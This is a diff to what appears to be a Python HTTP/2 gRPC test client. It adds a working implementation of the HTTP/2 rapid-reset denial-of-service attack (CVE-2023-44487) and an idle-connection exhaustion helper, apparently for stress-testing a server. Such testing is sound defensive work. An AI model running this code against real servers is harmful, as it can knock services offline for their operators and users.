@@ -114,12 +114,15 @@ class Conn:
     sends WINDOW_UPDATE, so a stream stalls once the server has sent `window`
     bytes: a reader that never reads. ack_settings=False skips the handshake
     wait so requests can go out before the server's SETTINGS is acknowledged.
+    huffman=False encodes header values as plain literals: much faster for
+    python3-hpack to build when they are large (metadata-limit tests).
     """
 
     def __init__(self, addr, window=65535, grant=True, timeout=10.0, ack_settings=True,
-                 max_frame=16384):
+                 max_frame=16384, huffman=True):
         host, port = addr.rsplit(":", 1)
         self.authority = addr
+        self.timeout = timeout
         self.sock = socket.create_connection((host, int(port)), timeout=timeout)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.grant = grant
@@ -132,6 +135,9 @@ class Conn:
                 h2.settings.SettingCodes.MAX_FRAME_SIZE: max_frame,
                 h2.settings.SettingCodes.ENABLE_PUSH: 0,
             })
+        if not huffman:
+            encode = self.h2.encoder.encode
+            self.h2.encoder.encode = lambda headers, huffman=True: encode(headers, huffman=False)
         self.h2.initiate_connection()
         self.streams = {}
         self.goaway = None  # (error code, additional data) of a GOAWAY
@@ -149,9 +155,11 @@ class Conn:
             except OSError:
                 self.closed = True
 
-    def request(self, path, message=None, metadata=(), end_stream=True):
+    def request(self, path, message=None, metadata=(), end_stream=True, flush=True):
         """Opens a stream with a gRPC request; `message` is protobuf bytes
-        (or None for no message). Returns the Stream."""
+        (or None for no message). flush=False leaves the frames queued for
+        the next write (several frames in one TCP segment). Returns the
+        Stream."""
         sid = self.h2.get_next_available_stream_id()
         headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                    (":authority", self.authority), ("content-type", "application/grpc"),
@@ -160,7 +168,8 @@ class Conn:
         self.h2.send_headers(sid, headers, end_stream=message is None and end_stream)
         if message is not None:
             self.h2.send_data(sid, grpc_frame(message), end_stream=end_stream)
-        self.flush()
+        if flush:
+            self.flush()
         return st
 
     def send_message(self, st, message, end_stream=False):
@@ -192,27 +201,32 @@ class Conn:
             self.h2.increment_flow_control_window(extra)
         self.flush()
 
-    def reset(self, st, code=8):
+    def reset(self, st, code=8, flush=True):
         """RST_STREAM(code), CANCEL by default."""
         self.h2.reset_stream(st.id, error_code=code)
-        self.flush()
+        if flush:
+            self.flush()
 
     def raw(self, data):
         """Writes bytes as they are, bypassing h2's own checks."""
         self.sock.sendall(data)
 
     def pump(self, timeout=0.1):
-        """Reads what is there (waiting up to `timeout`); False once closed."""
+        """Reads what is there (waiting up to `timeout`, 0: not at all);
+        False once closed. Writes keep the connection's own timeout."""
         if self.closed:
             return False
         self.sock.settimeout(timeout)
         try:
             data = self.sock.recv(1 << 20)
-        except socket.timeout:
+        except (socket.timeout, BlockingIOError):
             return True
         except OSError:
             self.closed = True
             return False
+        finally:
+            if not self.closed:
+                self.sock.settimeout(self.timeout)
         if not data:
             self.closed = True
             return False
@@ -277,3 +291,65 @@ class Conn:
 
 WATCH = "/events.v1.Watcher/Watch"
 PUBLISH = "/events.v1.Publisher/Publish"
+
+
+def rapid_reset(addr, count, path=WATCH, message=b"", conns=2, metadata=(), settle=1.0,
+                split=False):
+    """The rapid-reset attack (CVE-2023-44487): `count` streams over `conns`
+    connections, each HEADERS + the request `message` then RST_STREAM(CANCEL)
+    at once, reading what the server sends every few streams (its SETTINGS,
+    PINGs, WINDOW_UPDATEs) so the connections stay usable. Then reads for
+    `settle` seconds, so the server has taken every frame in, and closes.
+    All three frames go in one write, so the server mostly sees the reset
+    before the request; split=True writes the reset separately, so the
+    request mostly arrives first and the stream is opened, then cancelled.
+
+    Runs in the calling process: start it in another one (multiprocessing,
+    spawn) to keep its CPU away from the client under test. Returns a dict:
+    streams reset, seconds taken, connections closed by the server early,
+    GOAWAYs received."""
+    cs = [Conn(addr) for _ in range(conns)]
+    start = time.monotonic()
+    sent = 0
+    for i in range(count):
+        c = cs[i % conns]
+        if c.closed:
+            continue
+        st = c.request(path, message, metadata=metadata, end_stream=False, flush=split)
+        c.reset(st)
+        del c.streams[st.id]  # nothing more to read on it
+        sent += 1
+        if i % 64 == 63:
+            for x in cs:
+                x.pump(0)
+    took = time.monotonic() - start
+    end = time.monotonic() + settle
+    while time.monotonic() < end:
+        for c in cs:
+            c.pump(0.05)
+    result = {"streams": sent, "seconds": took, "closed": sum(c.closed for c in cs),
+              "goaway": [c.goaway for c in cs if c.goaway]}
+    for c in cs:
+        c.close()
+    return result
+
+
+def idle_connections(addr, count, hold):
+    """Opens `count` HTTP/2 connections (preface, SETTINGS, both ACKed),
+    keeps them open and idle for `hold` seconds (answering the server's
+    PINGs), then closes them. Raises RLIMIT_NOFILE's soft limit to the hard
+    one if it has to. Returns how many were open at once."""
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < count + 64 and soft < hard:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64), hard))
+    cs = [Conn(addr) for _ in range(count)]
+    end = time.monotonic() + hold
+    while time.monotonic() < end:
+        for c in cs:
+            c.pump(0)
+        time.sleep(0.05)
+    open_ = sum(not c.closed for c in cs)
+    for c in cs:
+        c.close()
+    return open_
